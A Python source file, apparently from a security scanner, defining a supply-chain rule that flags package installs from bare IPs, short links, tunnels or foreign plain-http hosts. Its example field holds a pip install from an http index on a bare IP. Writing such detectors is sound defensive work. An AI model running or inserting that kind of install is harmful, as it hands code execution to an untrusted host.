"""Packages come from an address that says nothing of whose it is."""

from collections.abc import Iterator

from clawft.scan.facts import Kind
from clawft.scan.ownership import is_foreign
from clawft.scan.rule import Hit, Rule
from clawft.scan.subject import Subject
from clawft.scan.vocabulary.hosts import Place, host_of, judge_address
from clawft.scan.vocabulary.packages import parse_package

__all__ = ["RULE"]


def check_package_of_stranger(subject: Subject) -> Iterator[Hit]:
    for fact in subject.of(Kind.INSTALL):
        package = parse_package(fact.target)
        if not package.address:
            continue
        place, host = judge_address(package.address), host_of(package.address)
        if place in (Place.BARE, Place.DROP, Place.SHORT):
            yield Hit(fact, f"Packages are installed from {host}, whoever that is", 0.9)
        elif not package.name and package.manager != "download" and is_foreign(subject, package.address):
            yield Hit(fact, f"A package is installed straight from {host}, which nobody answers for", 0.75)
        elif package.address.lower().startswith("http://") and is_foreign(subject, package.address):
            yield Hit(fact, f"Packages are installed from {host} over a connection that anyone can change", 0.75)


RULE = Rule(
    id="package-of-stranger",
    title="Packages are installed from a stranger's address",
    severity="critical",
    category="supply-chain",
    what="The index, registry or archive that a package is installed from is a bare address, a drop, a tunnel or a "
    "short link, or a foreign host without encryption.",
    why="Installing a package runs its code, and whoever answers there chooses the code.",
    example="pip install --index-url http://203.0.113.7/simple helper",
    counter_example="pip install --index-url https://download.pytorch.org/whl/cpu torch",
    fix="Install from the public registry, pinned, or from the vendor's own host.",
    check=check_package_of_stranger,
    owasp="AST02",
    atlas="AML.T0010",
)
